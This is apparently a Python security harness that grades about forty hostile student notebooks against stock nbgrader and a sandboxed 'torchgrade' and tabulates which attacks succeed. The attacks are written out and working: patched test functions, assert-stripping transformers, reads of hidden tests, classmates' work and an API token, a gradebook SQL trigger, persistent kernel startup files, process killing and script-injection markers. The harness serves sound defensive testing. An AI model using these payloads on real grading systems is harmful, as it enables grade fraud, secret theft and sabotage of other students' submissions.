"""Hostile submissions against stock `nbgrader autograde`, and the same against torchgrade.

Every attack is a real submission in a scratch course, graded by the real command: nbgrader with its
own passes and a kernel, torchgrade with its sandbox. Prints a Markdown table of what came of it.
Started by root, nbgrader runs as `nobody` in namespaces of its own, so that no attack harms the
machine. Bombs without a bound are left out.
"""

from __future__ import annotations

import argparse
import contextlib
import dataclasses
import json
import os
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

NOBODY = 65534
SECONDS = 240
POINTS = 4.0
HIDDEN, MATE, TOKEN, NET = "hidden-kiwi-71", "classmate-plum-52", "token-fig-93", "net-pear-34"
RIGHT = f"def double(x):  # {MATE}\n    return 2 * x"
WRONG = "def double(x): return None"
VISIBLE = "assert double(2) == 4"
HIDDEN_TESTS = (
    "import torch\n"
    f'assert torch.equal(double(torch.ones(2)), torch.full((2,), 2.0)), "{HIDDEN}"\n'
    "assert double(21) == 42"
)
PYTEST = f'''
import torch
from torchgrade.testing import grades

@grades("double_tests")
def test_tensor(student):
    """A tensor is doubled."""
    expected = torch.tensor([3.0, -4.0])
    assert torch.equal(student.double(torch.tensor([1.5, -2.0])), expected), "{HIDDEN}"

@grades("double_tests")
def test_number(student):
    """A number is doubled."""
    assert student.double(21) == 42
'''
YES = """
import torch
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None): return True
    def __eq__(self, other): return True
def double(x): return torch.zeros(2).as_subclass(Yes)
"""
TRIGGER = """
import sqlite3
book = sqlite3.connect('../../../gradebook.db', timeout=5)
book.execute('CREATE TRIGGER mine AFTER UPDATE ON grade BEGIN '
             'UPDATE grade SET manual_score = 4 WHERE id = NEW.id; END')
book.commit()
"""
STARTUP = """
import os
os.makedirs(os.path.expanduser('~/.ipython/profile_default/startup'), exist_ok=True)
with open(os.path.expanduser('~/.ipython/profile_default/startup/0.py'), 'w') as file:
    file.write("import os\\n"
               "open('../../../ran-for-' + os.path.basename(os.path.dirname(os.getcwd())), 'w')")
"""
DAEMON = """
import os, sys, time
if not os.fork():
    os.setsid()
    if not os.fork():
        with open('../../../daemon.pid', 'w') as file: file.write(str(os.getpid()))
        for fd in range(64):
            try: os.close(fd)
            except OSError: pass
        time.sleep(120)
    os._exit(0)
time.sleep(0.5)
"""
SCRIPT = """
from IPython.display import HTML, Javascript, display
display(HTML('<script>steal_the_session()</script><img src=x onerror="steal_the_session()">'))
display(Javascript('steal_the_session()'))
"""


@dataclasses.dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        what: What it tries, for the table.
        code: Code put before a wrong answer.
        answer: The answer itself.
        spoil: Changes the notebook.
        broken: Changes the folder of the submission after the notebook was written.
        after: Another student, who answered rightly, is graded after it.
        pages: Feedback pages are made as well.
    """

    what: str
    code: str = ""
    answer: str = WRONG
    spoil: Callable[[Any], None] | None = None
    broken: Callable[[Path], None] | None = None
    after: bool = False
    pages: bool = False


def _cell(notebook: Any, name: str) -> Any:
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == name)


def _tags(notebook: Any) -> None:
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution"]


def _forge(**settings: object) -> Callable[[Any], None]:
    def spoil(notebook: Any) -> None:
        _cell(notebook, "double_tests").metadata.nbgrader.update(settings)

    return spoil


def _delete(notebook: Any) -> None:
    notebook.cells.remove(_cell(notebook, "double_tests"))


def _twice(notebook: Any) -> None:
    copy = nbformat.from_dict(_cell(notebook, "double_tests"))
    copy.id, copy.source = "second", "4.0"
    notebook.cells.append(copy)


def _edit(notebook: Any) -> None:
    _cell(notebook, "double_tests").source = "4.0"


def _saved_outputs(notebook: Any) -> None:
    data = {"text/plain": "4.0"}
    _cell(notebook, "double_tests").outputs = [
        nbformat.v4.new_output("execute_result", data, execution_count=1)
    ]


def _script_as_text(notebook: Any) -> None:
    notebook.cells.append(
        new_markdown_cell(
            "<script>steal_the_session()</script>\n\n[a](javascript:steal_the_session())"
        )
    )


def _text(content: str) -> Callable[[Path], None]:
    return lambda folder: folder.joinpath("toy.ipynb").write_text(content) and None


def _link(folder: Path) -> None:
    path = folder / "toy.ipynb"
    path.unlink()
    path.symlink_to("../../zoe/toy/toy.ipynb")


def _files(folder: Path) -> None:
    for name in ("torch.py", "IPython.py", "ast.py", "sitecustomize.py"):
        (folder / name).write_text("raise SystemExit(0)")


ATTACKS: dict[str, Attack] = {
    "wrong": Attack("answers wrongly, and reads the feedback page", pages=True),
    "patch-torch": Attack(
        "replaces `torch.equal`, answers with an object that equals everything",
        "import torch\ntorch.equal = lambda *a: True\nclass Yes:\n    __eq__ = lambda *a: True",
        "def double(x): return Yes()",
    ),
    "tensor-says-yes": Attack("a tensor subclass that answers True to every function", YES, ""),
    "ast-transformer": Attack(
        "an AST transformer that takes the asserts out of later cells",
        "import ast\nclass Tame(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node): return ast.Pass()\n"
        "get_ipython().ast_transformers.append(Tame())",
    ),
    "input-transformer": Attack(
        "an input transformer that empties later cells",
        "get_ipython().input_transformers_post.append(lambda lines: ['pass'])",
    ),
    "run-cell": Attack(
        "a shell that shows no error",
        "get_ipython().showtraceback = lambda *a, **k: None\n"
        "get_ipython()._showtraceback = lambda *a, **k: None",
    ),
    "read-the-cell": Attack(
        "reads the test cell that is running (`In[-1]`)",
        answer="def double(x):\n    print(get_ipython().user_ns['In'][-1])",
    ),
    "read-solution": Attack(
        "takes the answer from `source/`",
        "import json, re\n"
        "book = json.load(open('../../../source/toy/toy.ipynb'))\n"
        "exec([''.join(c['source']) for c in book['cells'] if 'BEGIN SOLUTION' in "
        "''.join(c['source'])][0])",
        "",
    ),
    "read-hidden-tests": Attack(
        "reads the hidden tests from the disk",
        "import glob\n"
        "for name in [*glob.glob('../../../source/toy/*'), *glob.glob('../../../tests/*/*/*')]:\n"
        "    print(open(name).read())",
    ),
    "read-classmate": Attack(
        "hands in a classmate's answer, read while it is graded",
        "import json\n"
        "book = json.load(open('../../../submitted/zoe/toy/toy.ipynb'))\n"
        "code = [''.join(c['source']) for c in book['cells'] if 'def double' in "
        "''.join(c['source'])][0]\nprint(code)\nexec(code)",
        "",
    ),
    "read-token": Attack(
        "reads a token from the environment",
        "import os\nprint(os.environ['JUPYTERHUB_API_TOKEN'])",
    ),
    "network": Attack(
        "talks to a service on the machine",
        "import socket\nprint(socket.create_connection(('127.0.0.1', @PORT@), 5).recv(99))",
    ),
    "sql-trigger": Attack("an SQL trigger in `gradebook.db`", TRIGGER),
    "classmate-file": Attack(
        "overwrites a classmate's submission",
        "open('../../../submitted/zoe/toy/toy.ipynb', 'w').write('{}')",
        after=True,
    ),
    "startup-file": Attack("leaves code for all later kernels", STARTUP, after=True),
    "host-file": Attack("writes a file into the course", "open('../../../PWNED', 'w').write('1')"),
    "config": Attack(
        "replaces `nbgrader_config.py`",
        "open('../../../nbgrader_config.py', 'a').write('\\nopen(\"PWNED\", \"w\").close()\\n')",
    ),
    "kill-grader": Attack(
        "kills its parent process", "import os\nos.kill(os.getppid(), 9)", after=True
    ),
    "os-exit": Attack("`os._exit(0)`", "import os\nprint('passed')\nos._exit(0)", after=True),
    "daemon": Attack("leaves a process running", DAEMON),
    "system-exit": Attack("raises SystemExit", "raise SystemExit(0)"),
    "skip-test": Attack(
        "raises `unittest.SkipTest`",
        answer="import unittest\ndef double(x): raise unittest.SkipTest('later')",
    ),
    "fake-score": Attack("prints points", "print('4.0 / 4.0'); print('4.0')", f"{WRONG}\n4.0"),
    "memory": Attack(
        "takes 1.5 GB of memory where 1 GB is allowed",
        "kept = [b'x' * (64 << 20) for _ in range(24)]\nopen('../../../took-memory', 'w').close()",
    ),
    "loop": Attack("an endless loop", "while True: pass", after=True),
    "flood": Attack("prints 20 MB", "for _ in range(20): print('x' * (1 << 20))"),
    "script-output": Attack("HTML and JavaScript in an output", SCRIPT, pages=True),
    "script-text": Attack(
        "a script and a `javascript:` link in a text",
        spoil=_script_as_text,
        pages=True,
    ),
    "skip-tags": Attack("tags every cell `skip-execution`", spoil=_tags),
    "more-points": Attack("changes the points of the test cell", spoil=_forge(points=1000)),
    "not-graded": Attack("turns the test cell into no test", spoil=_forge(grade=False)),
    "manual": Attack("turns the test cell into an answer", spoil=_forge(solution=True)),
    "schema": Attack("metadata of an unknown version", spoil=_forge(schema_version=99), after=True),
    "deleted": Attack("deletes the test cell", spoil=_delete, after=True),
    "twice": Attack("a second test cell of the same id", spoil=_twice, after=True),
    "edited": Attack("rewrites the test cell", spoil=_edit),
    "saved-outputs": Attack("points in the saved outputs", spoil=_saved_outputs),
    "link": Attack("a link to a classmate's notebook", broken=_link),
    "shadow-files": Attack(
        "files named like modules beside the notebook",
        answer=RIGHT.replace(MATE, ""),
        broken=_files,
    ),
    "deep-json": Attack("200 000 nested lists", broken=_text("[" * 200_000), after=True),
    "no-notebook": Attack("JSON that is no notebook", broken=_text('{"a": 1}'), after=True),
}


def source(*, stock: bool) -> Any:
    """Write the instructor's notebook."""
    common = {"schema_version": 3, "task": False}
    answer = {"grade": False, "grade_id": "double", "locked": False, "solution": True, **common}
    test = {"grade": True, "grade_id": "double_tests", "locked": True, "solution": False,
            "points": POINTS, **common}  # fmt: skip
    hidden = f"\n### BEGIN HIDDEN TESTS\n{HIDDEN_TESTS}\n### END HIDDEN TESTS" if stock else ""
    solution = "### BEGIN SOLUTION\ndef double(x):\n    return 2 * x\n### END SOLUTION"
    spec = {"name": "python3", "display_name": "Python 3", "language": "python"}
    cells = [
        new_markdown_cell("# Twice", id="title"),
        new_code_cell(solution, id="answer", metadata={"nbgrader": answer}),
        new_code_cell(VISIBLE + hidden, id="test", metadata={"nbgrader": test}),
    ]
    return new_notebook(cells=cells, metadata={"kernelspec": spec})


class Course:
    """A scratch course.

    Args:
        root: Its folder.
        stock: Without torchgrade.
        port: Port of the service on the machine.
    """

    def __init__(self, root: Path, *, stock: bool, port: int) -> None:
        self.root, self.stock, self._port = root, stock, port
        if root.exists():
            return
        (root / "source" / "toy").mkdir(parents=True)
        (root / "home").mkdir()
        nbformat.write(source(stock=stock), root / "source" / "toy" / "toy.ipynb")
        if stock:
            text = "c = get_config()\nc.CourseDirectory.course_id = 'toys'\n"
            text += "c.ExecutePreprocessor.timeout = 10\n"
            (root / "nbgrader_config.py").write_text(text)
            return
        repository = Path(__file__).resolve().parent.parent
        shutil.copy(repository / "nbgrader_config.py", root)
        (root / "grader_config.py").write_text(
            "from torchgrade.config import Assignment, Course\n"
            "from torchgrade.model import Limits\n"
            "course = Course(course_id='toys', assignments=(Assignment(name='toy', points=4),),\n"
            "    limits=Limits(cell_seconds=10, memory_mb=1024, submission_seconds=60))\n"
            "c = get_config()\nc.CourseDirectory.course_id = 'toys'\n"
        )
        tests = root / "tests" / "homework" / "toy"
        tests.mkdir(parents=True)
        (tests / "test_toy.py").write_text(PYTEST)

    def copy(self, root: Path) -> Course:
        """Copy the course to another folder."""
        shutil.copytree(self.root, root)
        return Course(root, stock=self.stock, port=self._port)

    def hand_in(self, student: str, attack: Attack | None) -> None:
        """Write a student's submission; an honest one without an attack."""
        notebook = nbformat.read(self.root / "release" / "toy" / "toy.ipynb", as_version=4)
        answer = RIGHT if attack is None else f"{attack.code}\n{attack.answer}"
        _cell(notebook, "double").source = answer.replace("@PORT@", str(self._port))
        if attack is not None and attack.spoil is not None:
            attack.spoil(notebook)
        folder = self.root / "submitted" / student / "toy"
        folder.mkdir(parents=True)
        (folder / "toy.ipynb").write_text(json.dumps(notebook))
        if attack is not None and attack.broken is not None:
            attack.broken(folder)

    def run(self, *arguments: str) -> tuple[int | None, str]:
        """Run a command in the course; None is the code of one that did not end in time."""
        if self.stock:
            for path in (self.root, *self.root.rglob("*")):
                if os.getuid() == 0 and not path.is_symlink():
                    os.chown(path, NOBODY, NOBODY)
        ours = ["-c", "from torchgrade.cli import main; main()"]
        tool = ["-m", "nbgrader"] if self.stock else ours
        command = [sys.executable, *tool, *arguments]
        try:
            done = subprocess.run(
                _confined(command) if self.stock else command,
                cwd=self.root, env=self._environment(), timeout=SECONDS, text=True, check=False,
                errors="replace", stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                stderr=subprocess.STDOUT, start_new_session=True,
            )  # fmt: skip
        except subprocess.TimeoutExpired:
            return None, ""
        return done.returncode, done.stdout

    def _environment(self) -> dict[str, str]:
        path = f"{Path(sys.executable).parent}{os.pathsep}/usr/bin:/bin"
        own = {"HOME": str(self.root / "home")} if self.stock else {}
        kept = {k: v for k, v in os.environ.items() if k in ("HOME", "LANG", "TMPDIR")}
        return {**kept, **own, "PATH": path, "OMP_NUM_THREADS": "1",
                "JUPYTERHUB_API_TOKEN": TOKEN, "PYTHONDONTWRITEBYTECODE": "1"}  # fmt: skip

    def score(self, student: str) -> float | None:
        """Read a student's points, a manual score before an automatic one; None without grade."""
        query = """SELECT COALESCE(g.manual_score, g.auto_score) FROM grade g
                   JOIN submitted_notebook n ON g.notebook_id = n.id
                   JOIN submitted_assignment a ON n.assignment_id = a.id
                   WHERE a.student_id = ?"""
        with contextlib.closing(sqlite3.connect(self.root / "gradebook.db")) as book:
            try:
                found = book.execute(query, (student,)).fetchone()
            except sqlite3.Error:
                return None
        graded = self.root / "autograded" / student / "toy" / "toy.ipynb"
        return None if found is None or not graded.exists() else found[0]

    def written(self, student: str) -> str:
        """Return what a submission printed: the streams of the graded notebook."""
        path = self.root / "autograded" / student / "toy" / "toy.ipynb"
        if not path.is_file():
            return ""
        cells = json.loads(path.read_text())["cells"]
        return json.dumps([
            o for c in cells for o in c.get("outputs", [])
            if o["output_type"] == "stream"
        ])  # fmt: skip

    def pages(self, student: str) -> str:
        """Return a student's feedback pages and the markup in the graded notebook's texts."""
        folder = self.root / "feedback" / student
        return "".join(path.read_text() for path in folder.rglob("*.html"))


_CONFINED = """
if [ -n "$1" ]; then
  mkdir -p /mnt && mount --bind "$2" /mnt && mount -t tmpfs tmpfs "$1" && mkdir -p "$2" \
    && mount --bind /mnt "$2" && umount /mnt
fi
shift 2
setpriv --reuid 65534 --regid 65534 --clear-groups --no-new-privs "$@"
code=$?
[ -f daemon.pid ] && kill -0 "$(cat daemon.pid)" 2>/dev/null && touch daemon.alive
exit $code
"""


def _confined(command: list[str]) -> list[str]:
    """Return the command that, for root, becomes nobody and takes its descendants along."""
    if os.getuid() != 0:
        return command
    home = Path(sys.base_prefix)
    shut = [p for p in (home, *home.parents) if not p.stat().st_mode & 1]
    namespaces = ["unshare", "--mount", "--pid", "--fork", "--kill-child", "--mount-proc"]
    hidden = str(shut[-1]) if shut else ""
    return [*namespaces, "sh", "-c", _CONFINED, "sh", hidden, str(home), *command]


READ = {
    HIDDEN: "hidden tests read",
    MATE: "classmate's work read",
    TOKEN: "token read",
    NET: "service reached",
}
LEFT = {
    "PWNED": "file written",
    "took-memory": "memory taken",
    "ran-for-zoe": "runs in others' grading",
    "daemon.alive": "process left running",
}


def outcome(course: Course, name: str, attack: Attack, code: int | None) -> tuple[str, bool]:
    """Say what came of an attack, and whether it got anywhere."""
    score, printed = course.score(name), course.written(name)
    honest = attack.answer == RIGHT.replace(MATE, "")
    config = (course.root / "nbgrader_config.py").read_text()
    found = {
        "full marks": score == POINTS and not honest,
        "own right answer not graded": score != POINTS and honest,
        **{words: mark in printed for mark, words in READ.items()},
        **{words: (course.root / file).exists() for file, words in LEFT.items()},
        "configuration changed": "PWNED" in config,
        f"notebook of {len(printed) >> 20} MB": len(printed) > 5 << 20,
        "hidden tests on the feedback page": HIDDEN in course.pages(name),
        "script on a page": attack.pages and _acts(course, name),
        "others not graded": attack.after and course.score("zoe") != POINTS,
        "grader hangs": code is None,
    }
    if any(found.values()):
        return ", ".join(words for words, true in found.items() if true), True
    if score is None:
        return "stopped (no grade)", False
    return ("no effect" if honest else "stopped") + f" ({score:g} points)", False


def _acts(course: Course, name: str) -> bool:
    """Tell whether a page that is made of the graded notebook holds what acts."""
    from bs4 import BeautifulSoup
    from nbconvert import HTMLExporter

    graded = course.root / "autograded" / name / "toy" / "toy.ipynb"
    pages = [course.pages(name)]
    if graded.is_file():
        pages.append(HTMLExporter(template_name="classic").from_filename(str(graded))[0])
    for page in pages:
        soup = BeautifulSoup(page, "html.parser")
        acting = [t.string for t in soup.find_all("script")]
        acting += [t.get("href") for t in soup.find_all(href=True)]
        acting += [t.get("onerror") for t in soup.find_all(onerror=True)]
        if any(text and "steal_the_session" in text for text in acting):
            return True
    return False


def on_nbgrader(released: Course, folder: Path, name: str) -> tuple[str, bool]:
    """Try one attack on stock nbgrader, in a copy of the course of its own."""
    attack = ATTACKS[name]
    course = released.copy(folder / name)
    course.hand_in(name, attack)
    course.hand_in("zoe", None)
    code, _ = course.run("autograde", "toy", *([] if attack.after else ["--student", name]))
    if attack.pages:
        course.run("generate_feedback", "toy")
    found = outcome(course, name, attack, code)
    shutil.rmtree(course.root)
    print(f"stock nbgrader, {name}: {found[0]}", file=sys.stderr, flush=True)
    return found


def on_torchgrade(course: Course, chosen: list[str]) -> dict[str, tuple[str, bool]]:
    """Try all attacks on torchgrade, as one class in one course."""
    for name in chosen:
        course.hand_in(name, ATTACKS[name])
    course.hand_in("zoe", None)
    code, said = course.run("grade", "toy")
    print(said, file=sys.stderr, flush=True)
    course.run("feedback", "toy")
    return {name: outcome(course, name, ATTACKS[name], code) for name in chosen}


def released(root: Path, *, stock: bool, port: int) -> Course:
    """Make a course and release its assignment."""
    course = Course(root, stock=stock, port=port)
    code, said = course.run("generate_assignment" if stock else "release", "toy")
    if code != 0:
        sys.exit(f"The assignment could not be released:\n{said[-2000:]}")
    return course


@contextlib.contextmanager
def service() -> Iterator[int]:
    """Serve a secret on a port of this machine."""
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            with contextlib.suppress(OSError):
                while True:
                    there, _ = server.accept()
                    with there:
                        there.sendall(NET.encode())

        threading.Thread(target=serve, daemon=True).start()
        yield server.getsockname()[1]


def main() -> None:
    """Try all attacks and print the table."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", nargs="*", choices=ATTACKS, help="names of attacks")
    parser.add_argument("--workers", type=int, default=2, help="attacks at once; default 2")
    options = parser.parse_args()
    chosen = options.only or list(ATTACKS)
    with service() as port, tempfile.TemporaryDirectory(dir="/var/tmp") as folder:
        scratch = Path(folder)
        scratch.chmod(0o755)

        ours = on_torchgrade(released(scratch / "ours", stock=False, port=port), chosen)
        stock = released(scratch / "stock", stock=True, port=port)
        with ThreadPoolExecutor(options.workers) as pool:
            found = list(pool.map(lambda name: on_nbgrader(stock, scratch, name), chosen))
    results = {name: (theirs, ours[name]) for name, theirs in zip(chosen, found, strict=True)}
    print("| attack | stock nbgrader | torchgrade |\n|---|---|---|")
    for name, pair in results.items():
        cells = [f"**{text}**" if worked else text for text, worked in pair]
        print(f"| {ATTACKS[name].what} | {cells[0]} | {cells[1]} |")
    for number, tool in enumerate(("stock nbgrader", "torchgrade")):
        count = sum(found[number][1] for found in results.values())
        print(f"\n{tool}: {count} of {len(results)} attacks got somewhere.", end="")
    print()


if __name__ == "__main__":
    main()
